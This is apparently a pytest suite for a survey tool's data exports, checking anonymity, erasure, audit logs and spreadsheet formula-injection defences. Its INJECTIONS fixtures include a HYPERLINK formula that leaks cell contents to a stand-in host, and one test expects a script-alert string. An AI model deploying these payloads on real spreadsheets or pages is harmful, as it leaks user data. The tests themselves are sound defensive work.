"""Exports for analysts: responses, the gap analysis and the whole survey as CSV, XLSX, JSON.

What must hold: the files carry the survey's answers exactly (DK and empty as in the
import format), never more than the dashboard shows (hidden groups, hidden comments,
erased people, identities of anonymous surveys), the gap analysis equals the scoring
result, no cell can run as a spreadsheet formula, and every download is audited.
"""

from __future__ import annotations

import csv
import io
import json
import math
import re
import zipfile
from datetime import timedelta

import pytest
from openpyxl import load_workbook
from sqlalchemy import select

from cxalign.analysis import analyse_survey, results_document
from cxalign.analysis.importer import import_responses
from cxalign.exports.files import build_export
from cxalign.exports.tables import pseudonym
from cxalign.exports.writers import neutralise
from cxalign.extensions import db
from cxalign.models import (
    AuditEvent,
    Comment,
    Item,
    OpenQuestion,
    Respondent,
    Response,
    Role,
    Survey,
    utcnow,
)
from cxalign.surveys import operations as ops
from tests.test_report_data import make_results_survey

INJECTIONS = (
    '=HYPERLINK("http://evil.example/?leak="&A1,"Click")',
    "+1",
    "-2",
    "@SUM(A1:A9)",
    "\tcmd",
    "\r=1+1",
)
DOWNLOADS = (
    ("responses", "csv"),
    ("responses", "xlsx"),
    ("responses-import", "csv"),
    ("results", "csv"),
    ("results", "xlsx"),
    ("survey", "json"),
)


def export_survey(organisation, *, anonymous: bool = True, **settings) -> Survey:
    """A closed survey (tests.test_report_data) plus what exports must handle: emails and
    names, a "don't know", an unanswered item, crafted comments, one respondent who only
    started and one who was erased."""
    survey = make_results_survey(organisation, **settings)
    survey.anonymous_to_staff = anonymous
    survey.closed_at = utcnow() - timedelta(days=1)
    respondents = sorted(survey.respondents, key=lambda r: r.id)
    for number, respondent in enumerate(respondents):
        respondent.email = f"person{number}@example.com"
        respondent.name = f"Person Number{number}"
        respondent.started_at = utcnow() - timedelta(days=3, minutes=number)
    cx = [r for r in respondents if r.group == "cx_professional"]
    dk_item = db.session.scalar(
        select(Item).where(Item.instrument_id == survey.instrument_id, Item.dont_know.is_(True))
    )
    skipped_item = survey.instrument.dimensions[0].items[0]
    answer = db.session.scalar(
        select(Response).where(Response.respondent_id == cx[0].id, Response.item_id == dk_item.id)
    )
    answer.value, answer.dont_know = None, True
    db.session.execute(
        Response.__table__.delete().where(
            Response.respondent_id == cx[1].id, Response.item_id == skipped_item.id
        )
    )
    cx_question = db.session.scalar(
        select(OpenQuestion).where(
            OpenQuestion.instrument_id == survey.instrument_id,
            OpenQuestion.group == "cx_professional",
        )
    )
    for respondent, text in zip(cx[3:], INJECTIONS, strict=False):
        db.session.add(Comment(respondent=respondent, question=cx_question, text=text))
    # Someone who answered one page only: exported with status "started", never counted.
    starter = Respondent(
        survey=survey,
        group="cx_professional",
        status="started",
        email="starter@example.com",
        name="Person Starter",
        started_at=utcnow() - timedelta(days=2),
    )
    starter.issue_token("test-secret-key")
    db.session.add(starter)
    db.session.flush()
    db.session.add(Response(respondent=starter, item=skipped_item, value=2))
    db.session.commit()
    ops.erase_respondent(cx[-1])
    db.session.commit()
    return survey


@pytest.fixture
def organisation(owner):
    return owner.memberships[0].organisation


@pytest.fixture
def survey(organisation):
    return export_survey(organisation)


def read_csv(data: bytes) -> list[dict[str, str]]:
    assert data.startswith(b"\xef\xbb\xbf"), "UTF-8 with a byte-order mark, for Excel"
    return list(csv.DictReader(io.StringIO(data.decode("utf-8-sig"), newline="")))


def sheet_rows(data: bytes, sheet: str) -> list[tuple]:
    workbook = load_workbook(io.BytesIO(data))
    return [tuple(cell.value for cell in row) for row in workbook[sheet].iter_rows()]


def all_text(data: bytes, fmt: str) -> str:
    """Every character of a file, XLSX unzipped, to look for what must not be there."""
    if fmt != "xlsx":
        return data.decode("utf-8-sig")
    with zipfile.ZipFile(io.BytesIO(data)) as archive:
        return "".join(archive.read(name).decode("utf-8") for name in archive.namelist())


def download(client, survey, what, fmt):
    return client.get(f"/surveys/{survey.id}/data/{what}.{fmt}")


def person(survey, row_id: str) -> Respondent:
    for respondent in survey.respondents:
        if pseudonym(survey.id, respondent.id, "test-secret-key") == row_id:
            return respondent
    raise AssertionError(f"no respondent with pseudonym {row_id}")


# Responses ---------------------------------------------------------------------------


def test_responses_csv_has_one_row_per_respondent_with_the_import_formats_values(survey):
    export = build_export(survey, "responses", "csv")
    rows = read_csv(export.data)
    items = [item.code for dim in survey.instrument.dimensions for item in dim.items]
    cx_question = next(q.code for q in survey.instrument.open_questions if q.group != "executive")
    exec_question = next(q.code for q in survey.instrument.open_questions if q.group == "executive")
    header = list(rows[0])
    assert header[:2] == ["respondent", "group"]
    assert header[2 : 2 + len(items)] == items
    assert exec_question in header and cx_question in header
    assert header[-3:] == ["status", "started_at", "completed_at"]
    assert "email" not in header and "name" not in header

    live = [r for r in survey.respondents if r.erased_at is None]
    assert len(rows) == len(live) == 6 + 12 - 1 + 1
    assert [r["group"] for r in rows] == sorted(
        (r["group"] for r in rows), key=lambda g: g != "executive"
    )
    for row in rows:
        respondent = person(survey, row["respondent"])
        answers = {a.item.code: a for a in respondent.responses}
        for code in items:
            answer = answers.get(code)
            expected = "" if answer is None else "DK" if answer.dont_know else str(answer.value)
            assert row[code] == expected, (row["respondent"], code)
        assert row["status"] == respondent.status
    values = [row[code] for row in rows for code in items]
    assert "DK" in values and "" in values
    assert {row["status"] for row in rows} == {"completed", "started"}
    # Anonymous to staff: times to the day only.
    assert all(re.fullmatch(r"\d{4}-\d{2}-\d{2}", row["started_at"]) for row in rows)


def test_respondent_ids_are_stable_pseudonyms_not_database_ids(survey):
    first = read_csv(build_export(survey, "responses", "csv").data)
    again = read_csv(build_export(survey, "responses", "csv").data)
    assert [r["respondent"] for r in first] == [r["respondent"] for r in again]
    ids = {str(r.id) for r in survey.respondents}
    assert all(re.fullmatch(r"p-[0-9a-f]{12}", r["respondent"]) for r in first)
    assert not ids & {r["respondent"] for r in first}


@pytest.mark.parametrize(("what", "fmt"), DOWNLOADS)
def test_anonymous_surveys_export_no_emails_names_or_import_ids(survey, what, fmt):
    respondent = next(r for r in survey.respondents if r.erased_at is None)
    respondent.external_ref = "HR-4711"
    db.session.commit()
    text = all_text(build_export(survey, what, fmt).data, fmt)
    assert "@example.com" not in text
    assert "Person Number" not in text and "Person Starter" not in text
    assert "HR-4711" not in text


def test_non_anonymous_surveys_export_emails_names_and_exact_times(organisation):
    survey = export_survey(organisation, anonymous=False)
    rows = read_csv(build_export(survey, "responses", "csv").data)
    assert list(rows[0])[-6:] == [
        "status",
        "started_at",
        "completed_at",
        "email",
        "name",
        "external_ref",
    ]
    emails = {row["email"] for row in rows}
    assert "starter@example.com" in emails and "person0@example.com" in emails
    starter = next(row for row in rows if row["email"] == "starter@example.com")
    assert starter["name"] == "Person Starter" and starter["status"] == "started"
    assert re.fullmatch(r"\d{4}-\d{2}-\d{2}T\d{2}:\d{2}:\d{2}Z", starter["started_at"])
    workbook = sheet_rows(build_export(survey, "responses", "xlsx").data, "Responses")
    assert "email" in workbook[0]
    document = json.loads(build_export(survey, "survey", "json").data)
    assert document["identities_included"] is True
    assert {r["email"] for r in document["respondents"]} == emails
    # The import format never carries identities (the importer would refuse the columns).
    imported = read_csv(build_export(survey, "responses-import", "csv").data)
    assert "email" not in imported[0]


def test_erased_respondents_are_left_out_and_said_so(survey):
    erased = next(r for r in survey.respondents if r.erased_at is not None)
    gone = pseudonym(survey.id, erased.id, "test-secret-key")
    for what, fmt in DOWNLOADS:
        assert gone not in all_text(build_export(survey, what, fmt).data, fmt)
    document = json.loads(build_export(survey, "survey", "json").data)
    assert any(w["what"] == "erased" for w in document["withheld"])
    about = sheet_rows(build_export(survey, "responses", "xlsx").data, "About")
    assert any("1 erased respondent is left out" in (row[0] or "") for row in about)


def test_the_import_format_reimports_into_the_same_figures(survey, organisation):
    export = build_export(survey, "responses-import", "csv")
    rows = read_csv(export.data)
    assert "status" not in rows[0]
    assert all(row["respondent"] for row in rows)
    completed = [r for r in survey.respondents if r.status == "completed" and r.erased_at is None]
    assert len(rows) == len(completed)
    copy = Survey(
        organisation=organisation,
        instrument=survey.instrument,
        title="Re-imported",
        status="closed",
        anonymity_executive=survey.anonymity_executive,
        anonymity_cx=survey.anonymity_cx,
        comment_minimum=survey.comment_minimum,
    )
    db.session.add(copy)
    db.session.commit()
    summary = import_responses(copy, export.data)
    db.session.commit()
    assert summary.respondents == len(rows)
    assert summary.dont_know == 1
    original, reimported = analyse_survey(survey).result, analyse_survey(copy).result
    assert reimported.alignment.index == original.alignment.index
    assert [i.gap_points for i in reimported.items] == [i.gap_points for i in original.items]


# Formula injection ---------------------------------------------------------------------


def test_neutralise_prefixes_every_formula_trigger_and_nothing_else():
    for text in INJECTIONS:
        assert neutralise(text) == "'" + text
    for text in ("Fine", "4", "DK", "", " =not first", "'quoted"):
        assert neutralise(text) == text


def test_csv_comments_that_look_like_formulas_come_out_as_text(survey):
    rows = read_csv(build_export(survey, "responses", "csv").data)
    question = next(q.code for q in survey.instrument.open_questions if q.group != "executive")
    comments = {row[question] for row in rows if row[question]}
    # Comments are stripped as on the dashboard ("\tcmd" becomes the harmless "cmd"),
    # then neutralised.
    expected = {"'" + t.strip() if t.strip()[0] in "=+-@" else t.strip() for t in INJECTIONS}
    assert expected <= comments
    assert "cmd" in comments and "'=1+1" in comments
    assert not any(c.startswith(("=", "+", "-", "@", "\t", "\r")) for c in comments)


def test_xlsx_writes_formula_like_text_as_strings_and_numbers_as_numbers(survey):
    workbook = load_workbook(io.BytesIO(build_export(survey, "responses", "xlsx").data))
    sheet = workbook["Responses"]
    header = [cell.value for cell in sheet[1]]
    question = next(q.code for q in survey.instrument.open_questions if q.group != "executive")
    column = header.index(question) + 1
    cells = [row[column - 1] for row in sheet.iter_rows(min_row=2) if row[column - 1].value]
    texts = {cell.value for cell in cells}
    assert '\'=HYPERLINK("http://evil.example/?leak="&A1,"Click")' in texts
    assert {"'+1", "'-2", "'@SUM(A1:A9)"} <= texts
    assert all(cell.data_type == "s" for cell in cells)
    first_item = header.index(survey.instrument.dimensions[0].items[1].code) + 1
    answers = [row[first_item - 1] for row in sheet.iter_rows(min_row=2)]
    assert all(c.data_type == "n" and isinstance(c.value, int) for c in answers if c.value)
    # Nothing in any sheet is a formula.
    for ws in workbook.worksheets:
        assert not any(c.data_type == "f" for row in ws.iter_rows() for c in row)


def test_a_negative_gap_is_a_number_in_csv_and_xlsx(survey):
    result = analyse_survey(survey).result
    loop = result.dimension("LOOP")
    assert loop.gap_points < 0  # a hidden strength in the fixture
    rows = read_csv(build_export(survey, "results", "csv").data)
    row = next(r for r in rows if r["kind"] == "dimension" and r["code"] == "LOOP")
    assert row["gap_points"] == repr(loop.gap_points)
    workbook = load_workbook(io.BytesIO(build_export(survey, "results", "xlsx").data))
    sheet = workbook["Results"]
    header = [cell.value for cell in sheet[1]]
    for line in sheet.iter_rows(min_row=2):
        if line[0].value == "dimension" and line[header.index("code")].value == "LOOP":
            cell = line[header.index("gap_points")]
            assert cell.data_type == "n" and cell.value == loop.gap_points
            break
    else:
        raise AssertionError("no LOOP row")


# The gap analysis --------------------------------------------------------------------


def number(text: str):
    if text == "":
        return None
    if text in ("true", "false"):
        return text == "true"
    try:
        return int(text)
    except ValueError:
        try:
            return float(text)
        except ValueError:
            return text


def test_results_csv_equals_the_scoring_result_exactly(survey):
    document = results_document(survey)
    rows = read_csv(build_export(survey, "results", "csv").data)
    dimensions = {d["code"]: d for d in document["dimensions"]}
    items = {i["code"]: i for i in document["items"]}
    assert [r["code"] for r in rows if r["kind"] == "dimension"] == list(dimensions)
    assert sorted(r["code"] for r in rows if r["kind"] == "item") == sorted(items)
    fields = {
        "gap_points": "gap_points",
        "gap_pomp": "gap_pomp",
        "ci_low": "ci_low",
        "ci_high": "ci_high",
        "cliffs_delta": "cliffs_delta",
        "p": "p",
        "q": "q",
        "classification": "classification",
        "gap_level": "level",
        "confidence": "confidence",
        "supported": "supported",
    }
    for row in rows:
        source = dimensions[row["code"]] if row["kind"] == "dimension" else items[row["code"]]
        for column, key in fields.items():
            assert number(row[column]) == source[key], (row["code"], column)
        for group in ("executive", "cx_professional"):
            stats = source[group]
            assert number(row[f"{group}_n"]) == stats["n"]
            assert number(row[f"{group}_mean"]) == stats["mean"]
            assert number(row[f"{group}_sd"]) == stats["sd"]
            assert number(row[f"{group}_dont_know_share"]) == stats["dont_know_share"]
        if row["kind"] == "dimension":
            assert number(row["effect_size"]) == source["effect_size"]
            assert number(row["priority_rank"]) == source["priority_rank"]
            assert number(row["priority_score"]) == source["priority_score"]
            assert row["name"] == source["name"]
        else:
            assert row["executive_wording"] and row["cx_professional_wording"]
    assert any(row["executive_dont_know_share"] not in ("", "0.0") for row in rows) or any(
        row["cx_professional_dont_know_share"] not in ("", "0.0") for row in rows
    )


def test_results_xlsx_has_the_same_cells_and_a_summary(survey):
    document = results_document(survey)
    data = build_export(survey, "results", "xlsx").data
    csv_rows = read_csv(build_export(survey, "results", "csv").data)
    sheet = sheet_rows(data, "Results")
    header = list(sheet[0])
    assert header == list(csv_rows[0])
    for xlsx_row, csv_row in zip(sheet[1:], csv_rows, strict=True):
        for column, value in zip(header, xlsx_row, strict=True):
            expected = number(csv_row[column])
            if isinstance(value, float):
                # openpyxl writes 16 significant digits (Excel shows 15); CSV is exact.
                assert math.isclose(value, expected, rel_tol=1e-15), column
            else:
                assert value == expected, column
    summary = dict(sheet_rows(data, "Summary")[1:])
    assert summary["alignment_index"] == document["alignment"]["index"]
    assert summary["executive_responding"] == document["groups"]["executive"]["n_responding"]


# Anonymity ------------------------------------------------------------------------------


def test_a_group_below_its_threshold_has_no_rows_and_the_files_say_why(organisation):
    survey = export_survey(organisation, n_executive=2, anonymity_executive=3)
    assert analyse_survey(survey).result.suppressed("executive")
    exec_question = next(q.code for q in survey.instrument.open_questions if q.group == "executive")
    rows = read_csv(build_export(survey, "responses", "csv").data)
    assert rows and {row["group"] for row in rows} == {"cx_professional"}
    assert exec_question not in rows[0]
    assert not read_csv(build_export(survey, "responses-import", "csv").data) or all(
        row["group"] == "cx_professional"
        for row in read_csv(build_export(survey, "responses-import", "csv").data)
    )
    document = json.loads(build_export(survey, "survey", "json").data)
    assert {r["group"] for r in document["respondents"]} == {"cx_professional"}
    withheld = [w for w in document["withheld"] if w["what"] == "group"]
    assert withheld == [
        {
            "what": "group",
            "group": "executive",
            "question": None,
            "reason": "Executives: no rows. Only 2 executives answered; results for executives "
            "stay hidden until at least 3 have answered (anonymity threshold).",
        }
    ]
    about = [row[0] for row in sheet_rows(build_export(survey, "responses", "xlsx").data, "About")]
    assert any("Executives: no rows" in (line or "") for line in about)
    results = read_csv(build_export(survey, "results", "csv").data)
    assert all(row["executive_mean"] == "" and row["gap_points"] == "" for row in results)


def test_comments_below_the_minimum_have_no_column(organisation):
    survey = export_survey(organisation)
    survey.comment_minimum = 3  # executives wrote two comments: hidden, as on the dashboard
    db.session.commit()
    exec_question = next(q for q in survey.instrument.open_questions if q.group == "executive")
    rows = read_csv(build_export(survey, "responses", "csv").data)
    assert exec_question.code not in rows[0]
    assert "Keep investing in the app." not in all_text(
        build_export(survey, "survey", "json").data, "json"
    )
    document = json.loads(build_export(survey, "survey", "json").data)
    assert any(
        w["what"] == "comments" and w["question"] == exec_question.code
        for w in document["withheld"]
    )


# The whole survey as JSON ------------------------------------------------------------


def test_the_json_document_round_trips_with_a_format_version_and_counts(survey):
    document = json.loads(build_export(survey, "survey", "json").data)
    assert document["format"] == "cxalign-survey-export"
    assert document["format_version"] == 1
    assert list(document) == [
        "format",
        "format_version",
        "exported_at",
        "survey",
        "instrument",
        "identities_included",
        "withheld",
        "counts",
        "respondents",
        "results",
    ]
    assert document["survey"]["title"] == survey.title
    assert document["survey"]["anonymous_to_staff"] is True
    items = [i["code"] for d in document["instrument"]["dimensions"] for i in d["items"]]
    assert items == [item.code for dim in survey.instrument.dimensions for item in dim.items]
    first = document["instrument"]["dimensions"][0]["items"][0]
    assert (
        first["executive"]
        and first["cx_professional"]
        and first["executive"] != first["cx_professional"]
    )
    respondents = document["respondents"]
    counts = document["counts"]
    assert counts["respondents"] == len(respondents) == 18
    assert counts["answers"] == sum(
        1 for r in respondents for v in r["answers"].values() if v != "DK"
    )
    assert counts["dont_know"] == 1
    assert counts["comments"] == sum(len(r["comments"]) for r in respondents)
    assert counts["answers"] == db.session.scalar(
        select(db.func.count(Response.id))
        .join(Respondent)
        .where(Respondent.survey_id == survey.id, Response.dont_know.is_(False))
    )
    assert document["results"] == json.loads(json.dumps(results_document(survey)))
    # Comments are the respondents' own words in JSON: no spreadsheet prefix.
    texts = {t for r in respondents for t in r["comments"].values()}
    assert "+1" in texts and "<script>alert(1)</script> Fix the returns process." in texts


# Web: access, headers, audit, the Data page ---------------------------------------------


def test_downloads_are_attachments_with_dated_names_and_audited(owner_client, survey):
    today = utcnow().date().isoformat()
    for what, fmt in DOWNLOADS:
        response = download(owner_client, survey, what, fmt)
        assert response.status_code == 200, (what, fmt)
        assert response.headers["Content-Disposition"] == (
            f'attachment; filename="cxalign-acme-insurance-alignment-wave-1-{what}-{today}.{fmt}"'
        )
        assert response.headers["Cache-Control"] == "private, no-store"
    assert download(owner_client, survey, "responses", "csv").mimetype == "text/csv"
    assert download(owner_client, survey, "survey", "json").mimetype == "application/json"
    events = db.session.scalars(
        select(AuditEvent).where(AuditEvent.action == "survey.exported").order_by(AuditEvent.id)
    ).all()
    assert len(events) == len(DOWNLOADS) + 2
    assert [(e.detail["what"], e.detail["format"]) for e in events[: len(DOWNLOADS)]] == list(
        DOWNLOADS
    )
    first = events[0]
    assert first.target == f"survey:{survey.id}" and first.user_id is not None
    assert first.detail["rows"] == 18 and first.detail["via"] == "web"
    assert "@" not in json.dumps([e.detail for e in events])


def test_an_unknown_format_is_a_404(owner_client, survey):
    assert owner_client.get(f"/surveys/{survey.id}/data/responses.json").status_code == 404
    assert owner_client.get(f"/surveys/{survey.id}/data/secrets.csv").status_code == 404


@pytest.mark.parametrize("role", [Role.ANALYST, Role.CONSULTANT])
def test_analysts_and_consultants_may_export(client, auth, make_user, survey, role):
    auth.login(make_user(role=role, organisation=survey.organisation))
    for what, fmt in DOWNLOADS:
        assert download(client, survey, what, fmt).status_code == 200
    page = client.get(f"/surveys/{survey.id}/data")
    assert page.status_code == 200
    assert "Only owners of this organisation can change the retention period" in page.text
    assert "Save retention" not in page.text


def test_other_organisations_get_404_and_visitors_are_sent_to_log_in(
    client, auth, make_user, make_organisation, survey
):
    for what, fmt in DOWNLOADS:
        response = download(client, survey, what, fmt)
        assert response.status_code == 302 and "/auth/login" in response.headers["Location"]
    auth.login(make_user(role=Role.OWNER, organisation=make_organisation("Globex")))
    for what, fmt in DOWNLOADS:
        assert download(client, survey, what, fmt).status_code == 404
    assert client.get(f"/surveys/{survey.id}/data").status_code == 404
    assert not db.session.scalar(
        select(db.func.count(AuditEvent.id)).where(AuditEvent.action == "survey.exported")
    )


def test_the_data_page_lists_downloads_and_what_is_withheld(owner_client, organisation):
    survey = export_survey(organisation, n_executive=2, anonymity_executive=3)
    page = owner_client.get(f"/surveys/{survey.id}/data")
    assert page.status_code == 200
    for what, fmt in DOWNLOADS:
        assert f'href="/surveys/{survey.id}/data/{what}.{fmt}"' in page.text
    assert "Only 2 executives answered" in page.text
    assert "1 erased respondent is left out." in page.text
    assert "anonymous to staff" in page.text
    assert "Save retention" in page.text


def test_the_survey_page_and_the_dashboard_link_to_the_data_page(owner_client, survey):
    link = f'href="/surveys/{survey.id}/data"'
    assert link in owner_client.get(f"/surveys/{survey.id}").text
    assert link in owner_client.get(f"/surveys/{survey.id}/results").text


# CLI ------------------------------------------------------------------------------------


def test_cli_export_writes_the_same_file_and_audits(runner, survey, tmp_path):
    target = tmp_path / "out.xlsx"
    result = runner.invoke(
        args=["cxalign", "export", str(survey.id), "--what", "results", "-o", str(target)]
    )
    assert result.exit_code == 0, result.stderr
    assert result.stdout.strip().splitlines()[-1] == str(target)
    assert sheet_rows(target.read_bytes(), "Results")[0][0] == "kind"
    csv_target = tmp_path / "responses.csv"
    result = runner.invoke(
        args=[
            "cxalign",
            "export",
            str(survey.id),
            "--what",
            "responses",
            "--format",
            "csv",
            "-o",
            str(csv_target),
        ]
    )
    assert result.exit_code == 0, result.stderr
    assert "Withheld: 1 erased respondent is left out." in result.stdout
    assert len(read_csv(csv_target.read_bytes())) == 18
    json_target = tmp_path / "survey.json"
    result = runner.invoke(
        args=["cxalign", "export", str(survey.id), "--what", "survey", "-o", str(json_target)]
    )
    assert json.loads(json_target.read_text())["format_version"] == 1
    events = db.session.scalars(select(AuditEvent).where(AuditEvent.action == "survey.exported"))
    assert [(e.detail["what"], e.detail["via"], e.user_id) for e in events] == [
        ("results", "cli", None),
        ("responses", "cli", None),
        ("survey", "cli", None),
    ]


@pytest.mark.parametrize(
    ("args", "reason"),
    [
        (["--what", "everything"], "Error: unknown --what 'everything'"),
        (["--what", "survey", "--format", "csv"], "Error: The survey export is written as json"),
        (["--what", "responses-import", "--format", "xlsx"], "written as csv, not 'xlsx'"),
    ],
)
def test_cli_export_refuses_bad_choices_with_a_reason(runner, survey, tmp_path, args, reason):
    target = tmp_path / "out"
    result = runner.invoke(args=["cxalign", "export", str(survey.id), *args, "-o", str(target)])
    assert result.exit_code == 1
    assert reason in result.stderr and len(result.stderr.strip().splitlines()) == 1
    assert not target.exists()


def test_cli_export_of_a_missing_survey_or_unwritable_path_fails(runner, survey, tmp_path):
    result = runner.invoke(
        args=["cxalign", "export", "99999", "--what", "results", "-o", str(tmp_path / "x")]
    )
    assert result.exit_code == 1 and "no survey with id 99999" in result.stderr
    result = runner.invoke(
        args=["cxalign", "export", "abc", "--what", "results", "-o", str(tmp_path / "x")]
    )
    assert result.exit_code == 1 and "whole number" in result.stderr
    result = runner.invoke(
        args=[
            "cxalign",
            "export",
            str(survey.id),
            "--what",
            "results",
            "-o",
            str(tmp_path / "missing" / "x.xlsx"),
        ]
    )
    assert result.exit_code == 1 and "cannot write" in result.stderr
    assert not db.session.scalar(
        select(db.func.count(AuditEvent.id)).where(AuditEvent.action == "survey.exported")
    )
